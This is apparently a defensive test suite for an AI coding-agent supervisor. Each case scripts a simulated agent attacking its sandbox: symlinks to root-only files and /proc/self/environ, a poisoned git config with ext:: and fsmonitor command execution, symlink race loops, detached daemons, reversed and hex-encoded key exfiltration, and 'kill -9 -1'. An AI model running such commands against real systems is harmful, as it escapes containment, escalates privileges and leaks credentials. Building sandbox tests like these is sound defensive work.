/**
 * The supervisor never acts by path on what the agent controls. Each case is an attack that
 * worked on an earlier version (a symlink committed in the repository, or an agent obeying
 * injected instructions), run through the real path: the agent-task program as root, its tools
 * in their sandbox under a uid of the task's own. Each asserts that the attack did no harm: no
 * file outside the workspace changed owner, content or existence; nothing the agent wrote ran as
 * root; no credential went anywhere but the repository; no secret reached the model, GitHub or
 * the store.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmod, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_UID_RANGE } from '../../agent-task/sandbox/tool-identity.js';
import type { Task } from '../../core/task.js';
import { ANTHROPIC_KEY, CALC_FILES, REPO, startHarness, type Harness } from '../support/harness.js';
import { bash, done, editor, type DynamicStep, type ScriptStep } from '../support/scripted-model/index.js';
import { extraRunner, labelIssue, runIssue, secretsOf, tableText, taskOf } from './support.js';

const ROOT = process.getuid?.() === 0;
const FIX = editor({ command: 'str_replace', path: 'math.js', old_str: 'a - b', new_str: 'a + b' });

/** Live processes of `uid`: what a task left running. */
async function processesOf(uid: number): Promise<string[]> {
  const left: string[] = [];
  for (const pid of (await readdir('/proc')).filter((n) => /^\d+$/.test(n))) {
    const status = await readFile(`/proc/${pid}/status`, 'utf8').catch(() => '');
    if (/^State:\s+Z/m.test(status)) continue;
    if (Number(/^Uid:\s+(\d+)/m.exec(status)?.[1]) === uid) left.push(pid);
  }
  return left;
}

describe.skipIf(!ROOT)('reliability: the supervisor never acts on what the agent controls', () => {
  let h: Harness;
  /** A root-owned folder outside the workspace, visible to the tools (not under the work root). */
  let victim: string;
  let attacker: { server: Server; url: string; requests: string[] };

  beforeAll(async () => {
    h = await startHarness();
    const requests: string[] = [];
    const server = createServer((req, res) => {
      requests.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
      res.statusCode = 404;
      res.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    attacker = { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests };
  });
  afterAll(async () => {
    await h.close();
    await new Promise((resolve) => attacker.server.close(resolve));
  });
  beforeEach(async () => {
    victim = await mkdtemp('/var/tmp/nightshift-victim-');
    await chmod(victim, 0o755);
    await writeFile(join(victim, 'secret.txt'), 'root only\n', { mode: 0o600 });
  });
  afterEach(async () => {
    await rm(victim, { recursive: true, force: true });
    await h.github.commitFiles(
      REPO,
      'main',
      Object.fromEntries(Object.keys(CALC_FILES).map((path) => [path, CALC_FILES[path] ?? null])),
      'Back to the plain project',
    );
  });

  /** The victim folder is exactly as made: owner, mode, files, content. */
  async function expectVictimUntouched(): Promise<void> {
    const dir = await stat(victim);
    expect(dir.uid, 'the victim folder changed owner').toBe(0);
    expect(dir.mode & 0o777).toBe(0o755);
    expect((await readdir(victim)).sort()).toEqual(['secret.txt']);
    const file = await stat(join(victim, 'secret.txt'));
    expect(file.uid, 'a root-only file changed owner').toBe(0);
    expect(file.mode & 0o777).toBe(0o600);
    expect(await readFile(join(victim, 'secret.txt'), 'utf8')).toBe('root only\n');
  }

  /** No secret in the model's requests, anything sent to GitHub, the commits, or the store. */
  async function expectNoSecretAnywhere(task: Task): Promise<void> {
    const places: Record<string, string> = {
      'model requests': JSON.stringify(h.model.requests.map((r) => r.body)),
      'GitHub calls': JSON.stringify(h.github.calls.map((c) => c.body)),
      commits: JSON.stringify(await h.github.log(REPO, task.branch ?? 'main').catch(() => [])),
      store: await tableText(h),
    };
    for (const secret of secretsOf(h)) {
      for (const [where, content] of Object.entries(places)) {
        expect(content.includes(secret), `a secret in ${where}`).toBe(false);
      }
    }
  }

  const commitTraps = (files: Record<string, string | { symlink: string }>) =>
    h.github.commitFiles(REPO, 'main', files, 'A repository with traps');

  it('case 21: symlinks committed in the repository and made by the agent, pointing at root-only files → no owner, mode or content outside the workspace changes', async () => {
    await commitTraps({
      'victim-dir': { symlink: victim },
      'victim-file': { symlink: join(victim, 'secret.txt') },
      'docs/deep': { symlink: '../../../../../../../..' + victim },
    });
    const { task } = await runIssue(h, 'Symlinks', [
      bash(
        `ln -s ${victim} agent-link && ln -s ${join(victim, 'secret.txt')} agent-file; cat victim-file 2>&1`,
      ),
      FIX,
      done('Fixed add().'),
    ]);
    expect(task.status, task.error).toBe('succeeded');
    await expectVictimUntouched();
    // The links reached the branch as links: data, never followed by the supervisor.
    const pushed = await h.github.log(REPO, task.branch ?? '');
    expect(pushed.length).toBeGreaterThan(0);
    expect(JSON.stringify(h.model.requests.at(-1)?.body)).toContain('Permission denied');
  });

  it('case 22: the agent points `.git/commondir` at a config with an `ext::` remote, an `insteadOf` to another host and an fsmonitor → no git of ours reads it; no request leaves for another host', async () => {
    const marker = join(victim, 'pwned');
    const evilConfig = [
      '[core]',
      `\tfsmonitor = touch ${marker}`,
      `\thooksPath = ${victim}`,
      '[protocol "ext"]',
      '\tallow = always',
      '[remote "origin"]',
      `\turl = ext::sh -c touch% ${marker}`,
      `[url "${attacker.url}/"]`,
      `\tinsteadOf = ${h.github.url}/`,
      '[safe]',
      '\tdirectory = *',
    ].join('\n');
    const mainBefore = await h.github.branchSha(REPO, 'main');
    const pushesBefore = h.github.pushes.length;
    const { task } = await runIssue(h, 'Common dir', [
      bash(
        `mkdir -p ~/evil-common && cp -r .git/* ~/evil-common/ && printf '%s\\n' '${evilConfig.replace(/'/g, "'\\''")}' > ~/evil-common/config && echo ~/evil-common > .git/commondir && cat .git/commondir`,
      ),
      FIX,
      done('Fixed add().'),
    ]);
    // Whatever the agent did to its own checkout, the work was pushed from our repository.
    expect(['succeeded', 'failed']).toContain(task.status);
    await expect(stat(marker)).rejects.toThrow();
    expect(attacker.requests).toEqual([]);
    expect(await h.github.branchSha(REPO, 'main')).toBe(mainBefore);
    for (const push of h.github.pushes.slice(pushesBefore))
      expect(push.ref).toBe(`refs/heads/${task.branch}`);
    await expectNoSecretAnywhere(task);
  });

  it('case 23: the agent replaces `.git` with a symlink to a root folder → the supervisor writes, chowns and deletes nothing there; the task fails cleanly', async () => {
    const { task } = await runIssue(h, 'Dot git', [
      FIX,
      bash(`mv .git ../moved-git && ln -s ${victim} .git && ls -la .git/ 2>&1 | head -3`),
      done('Fixed add().'),
    ]);
    expect(task.status).toBe('failed');
    expect(task.error).toMatch(/could not read the agent's changes/);
    await expectVictimUntouched();
  });

  it('case 24: rule files that are symlinks to /proc/self/environ (committed, and swapped in by a background loop) → the prompt holds the real rule file and no secret', async () => {
    await commitTraps({
      'AGENTS.md': { symlink: '/proc/self/environ' },
      'CLAUDE.md': 'Use tabs for indentation.\n',
      '.cursorrules': { symlink: '/etc/passwd' },
      '.github/nightshift.yml':
        'setup:\n  - (while :; do ln -sfn /proc/1/environ .github/copilot-instructions.md; rm -f .github/copilot-instructions.md; echo hi > .github/copilot-instructions.md; done) > /dev/null 2>&1 &\ntest: node test.js\n',
    });
    const { task } = await runIssue(h, 'Rule files', [FIX, done('Fixed add().')]);
    expect(task.status, task.error).toBe('succeeded');
    const system = JSON.stringify(h.model.requests.at(-1)?.body.system);
    expect(system).toContain('Use tabs for indentation.');
    expect(system).not.toContain('root:x:0:0');
    expect(system).not.toMatch(/PATH=|HOME=/);
    await expectNoSecretAnywhere(task);
  });

  for (const isolation of ['bubblewrap', 'uid'] as const) {
    it(`case 25 (${isolation}): a background loop swaps a folder for a symlink to a root folder while the workspace is removed, and daemons detach themselves → nothing outside is deleted, no tool process outlives its task`, async () => {
      const runner = extraRunner(h, { NIGHTSHIFT_TOOL_ISOLATION: isolation });
      let uid = Number.NaN;
      h.deps.runner = runner;
      try {
        const { task } = await runIssue(h, `Cleanup race (${isolation})`, [
          bash(
            `(setsid sh -c 'while :; do rm -rf d; mkdir -p d/e; touch d/e/f; rm -rf d; ln -sfn ${victim} d; done' > /dev/null 2>&1 &) ; ` +
              `(nohup setsid sleep 600 > /dev/null 2>&1 &) ; sleep 0.2; echo "tools uid $(id -u)"`,
          ),
          (request) => {
            uid = Number(/tools uid (\d+)/.exec(JSON.stringify(request.body.messages))?.[1]);
            return FIX;
          },
          done('Fixed add().'),
        ]);
        await runner.drain(Number.POSITIVE_INFINITY);
        expect(task.status, task.error).toBe('succeeded');
        await new Promise((resolve) => setTimeout(resolve, 300));
        await expectVictimUntouched();
        expect(uid).toBeGreaterThanOrEqual(DEFAULT_UID_RANGE.first);
        expect(await processesOf(uid)).toEqual([]);
      } finally {
        h.deps.runner = h.runner;
      }
    });
  }

  it('case 26: the agent commits the Anthropic key reversed, a private-key line in hex and a token in its summary → push protection stops the task; nothing more is pushed; no secret anywhere', async () => {
    const keyLine = h.github.privateKey.split('\n').find((l) => l.length > 40 && !l.startsWith('-----'))!;
    const pushesBefore = h.github.pushes.length;
    const { task } = await runIssue(h, 'Exfiltrate', [
      FIX,
      bash(
        `printf '%s\\n' '${[...ANTHROPIC_KEY].reverse().join('')}' > notes.txt && ` +
          `printf '%s\\n' '${Buffer.from(keyLine).toString('hex')}' > data.hex && echo written`,
      ),
      done(`Fixed add(). For the record: ${[...ANTHROPIC_KEY].reverse().join('')}`),
    ]);
    expect(task.status).toBe('failed');
    expect(task.result?.headline).toMatch(/Push protection/);
    expect(task.error).toMatch(/known secret/);
    // The early draft pull request's first commit is all that reached GitHub, and it went with
    // the draft, closed when the task ended.
    const pushes = h.github.pushes.slice(pushesBefore);
    expect(pushes.map((p) => [p.ref, p.created, p.deleted])).toEqual([
      [`refs/heads/${task.branch}`, true, false],
      [`refs/heads/${task.branch}`, false, true],
    ]);
    await expectNoSecretAnywhere(task);
    expect(JSON.stringify(h.github.calls.map((c) => c.body))).not.toContain(
      [...ANTHROPIC_KEY].reverse().join(''),
    );
  });

  it('case 38: two tasks at once, one of whose agents runs `kill -9 -1` and reads every /proc/*/environ → it sees and reaches only its own processes; the other task finishes untouched', async () => {
    const router: DynamicStep = (request) => {
      const isA = JSON.stringify(request.body.system).includes('Concurrent A');
      const turn = request.body.messages.length;
      if (turn === 1) {
        return isA
          ? bash(
              'sleep 1.5; ps -e --no-headers | wc -l; cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep -c "^HOME="; kill -9 -1; echo killed-all',
            )
          : bash('sleep 4; echo still-alive');
      }
      return turn === 3 ? FIX : done('Fixed add().');
    };
    h.model.push(...Array.from({ length: 6 }, () => router));
    const [a, b] = await Promise.all([
      labelIssue(h, { title: 'Concurrent A' }),
      labelIssue(h, { title: 'Concurrent B' }),
    ]);
    await h.settle();
    const taskB = await taskOf(h, b.number);
    await taskOf(h, a.number);
    expect(taskB.status, taskB.error).toBe('succeeded');
    const resultOf = (title: string) =>
      JSON.stringify(
        h.model.requests
          .find((r) => JSON.stringify(r.body.system).includes(title) && r.body.messages.length === 3)
          ?.body.messages.at(-1),
      );
    expect(resultOf('Concurrent B')).toContain('still-alive');
    // A saw its own sandbox only: a handful of processes and their environments, none of B's.
    const seenByA = /"content":"(\d+)\\n(\d+)/.exec(resultOf('Concurrent A'));
    expect(Number(seenByA?.[1])).toBeLessThanOrEqual(8);
    expect(Number(seenByA?.[2])).toBeLessThanOrEqual(8);
  });

  it('case 27: the tools cannot read the supervisor’s files or processes: .env, .data and the program are hidden; no process but their own is visible', async () => {
    let seen = '';
    const { task } = await runIssue(h, 'Look around', [
      bash(
        `ls ${process.cwd()} | wc -l; ls /proc | grep -c '^[0-9]'; cat ${join(process.cwd(), 'package.json')} 2>&1 | head -1`,
      ),
      (request) => {
        seen = JSON.stringify(request.body.messages.at(-1));
        return FIX;
      },
      done('Fixed add().'),
    ] satisfies ScriptStep[]);
    expect(task.status, task.error).toBe('succeeded');
    expect(seen).not.toContain('"name": "nightshift"');
    expect(seen).toMatch(/No such file or directory/);
  });
});
